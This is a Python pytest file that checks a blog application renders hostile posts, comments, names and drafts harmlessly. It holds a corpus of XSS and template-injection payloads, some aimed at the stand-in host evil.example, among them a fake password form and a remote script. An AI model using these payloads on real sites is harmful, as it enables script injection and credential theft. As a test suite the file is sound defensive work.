"""No text runs anything in another person's browser, wherever it is shown."""

from typing import Any

import pytest
from courant_blog import contract
from courant_kit.calls.errors import NotFound
from courant_kit.wire.contract import Procedure
from courant_kit.wire.page import Page
from lxml import html as markup

from .staged_blog import Blog

CORPUS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><animate onbegin=alert(1)></svg>",
    "<a href='javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt&colon;alert(1))",
    "![x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox)",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object><embed src=//evil.example>",
    "<form action=//evil.example><button>Sign in</button><input name=password></form>",
    "<form data-call='courant.blog.post.delete' action='/call/courant.blog.post.delete/'><button>x</button></form>",
    "<div data-live='blog.index' data-version='999999'>x</div>",
    'x" data-live="blog.nothing-1" data-version="1"',
    "<style>body{display:none}</style>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<base href=//evil.example><meta http-equiv=refresh content='0;url=//evil.example'>",
    "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
    "<noscript><img src=x onerror=alert(1)></noscript>",
    "```js\n</code></pre><script>alert(1)</script>\n```",
    '```"><img/src=x/onerror=alert(1)>\nx\n```',
    "<details open ontoggle=alert(1)>x</details>",
    "</article></main></section></div><h1>Not your page</h1>",
    "{{ settings.SECRET_KEY }}{% include '/etc/passwd' %}",
    "<textarea></textarea></textarea><script>alert(1)</script>",
    "[x](//[) ![x](http://[y) <a href='//['>x</a> <img src='//['>",
]

FORBIDDEN = {"script", "iframe", "object", "embed", "style", "base", "meta", "link", "svg:script", "math", "noscript"}


def assert_harmless(page: Page) -> None:
    root = markup.fragment_fromstring(page.html, create_parent="main")
    for element in root.iter(markup.etree.Element):
        assert element.tag not in FORBIDDEN, page.html
        for name, value in element.attrib.items():
            assert not name.startswith("on"), page.html
            assert name not in {"style", "srcdoc", "formaction"}, page.html
            assert not value.strip().lower().startswith(("javascript:", "vbscript:", "data:")), page.html
    assert "settings.SECRET_KEY" not in page.html or "{{ settings.SECRET_KEY }}" in page.html
    assert all(form.get("action", "").startswith("/call/courant.blog.") for form in root.iter("form"))
    assert not root.xpath("//*[contains(concat(' ', normalize-space(@class), ' '), ' prose ')]//form")
    assert not root.xpath("//*[contains(concat(' ', normalize-space(@class), ' '), ' prose ')]//*[@data-live]")


def own_fragments(page: Page) -> set[str]:
    return {fragment.split(".")[1].split("-")[0].split("/")[0] for fragment in page.fragments}


@pytest.mark.parametrize("text", CORPUS)
def test_a_hostile_post_is_harmless_on_every_page(blog: Blog, text: str) -> None:
    saved = blog.save(text[:200], text, summary=text, tags=text[:60])
    blog.comment(saved["id"], text)
    post = blog.post_page(saved["path"])
    assert own_fragments(post) == {"post", "comments", "around", "related"}
    index = blog.page(contract.PAGE_INDEX)
    assert own_fragments(index) == {"index", "pager"}
    edit = blog.page(contract.PAGE_EDIT, "editor", **_where(saved["path"]))
    for page in (post, index, edit, blog.page(contract.PAGE_TAGS)):
        assert page.status == 200
        assert_harmless(page)


@pytest.mark.parametrize("text", CORPUS[:6])
def test_a_hostile_draft_is_harmless_to_editors(blog: Blog, text: str) -> None:
    draft = blog.draft(text[:200], text=text, tags=text[:60])
    for page in (contract.PAGE_DRAFT, contract.PAGE_EDIT_DRAFT):
        assert_harmless(blog.page(page, "editor", id=draft["id"]))
    assert_harmless(blog.page(contract.PAGE_DRAFTS, "editor"))
    preview = blog.call(contract.PREVIEW_POST, text=text)["html"]
    assert_harmless(Page(html=preview))


def test_a_hostile_name_is_only_text(blog: Blog) -> None:
    saved = blog.save()
    blog.comment(saved["id"], name="<img src=x onerror=alert(1)>")
    page = blog.post_page(saved["path"])
    assert "&lt;img src=x onerror=alert(1)&gt;" in page.html
    assert_harmless(page)


def test_a_comments_headings_take_no_ids(blog: Blog) -> None:
    saved = blog.save()
    blog.comment(saved["id"], '# Main\n\n<p id="comments">x</p>')
    page = blog.post_page(saved["path"])
    assert page.html.count('id="comments"') == 1
    assert 'id="main"' not in page.html


@pytest.mark.parametrize("role", ["member", "editor"])
def test_nobody_learns_whether_a_draft_has_a_comment(blog: Blog, role: str) -> None:
    saved = blog.save()
    number = blog.comment(saved["id"], name="ada")
    blog.call(contract.UNPUBLISH_POST, id=saved["id"])
    asked: list[tuple[Procedure, dict[str, Any]]] = [
        (contract.EDIT_COMMENT, {"text": "x"}), (contract.REMOVE_COMMENT, {}), (contract.RESTORE_COMMENT, {}),
    ]  # fmt: skip
    for procedure, fields in asked:
        errors = []
        for one in (number, number + 1):
            with pytest.raises(NotFound) as refused:
                blog.call(procedure, role, "eve", id=one, **fields)
            errors.append((refused.value.message, refused.value.field))
        assert errors == [("There is no such comment.", "id")] * 2
    for page in (contract.PAGE_COMMENT, contract.PAGE_EDIT_COMMENT):
        hidden, missing = (blog.page(page, role, id=one) for one in (number, number + 1))
        assert hidden == missing


def test_saving_a_draft_that_was_public_makes_no_open_event(blog: Blog) -> None:
    saved = blog.save()
    blog.call(contract.UNPUBLISH_POST, id=saved["id"])
    blog.stage.session.events.clear()
    blog.save("A plan", id=saved["id"], published=False)
    assert {topic.split(".")[2] for topic in blog.stage.topics()} == {"staff"}
    blog.call(contract.DELETE_POST, id=saved["id"])
    assert f"courant.blog.live.absent-{saved['id']}" in blog.stage.topics()


def _where(path: str) -> dict[str, Any]:
    from .staged_blog import at

    return at(path)
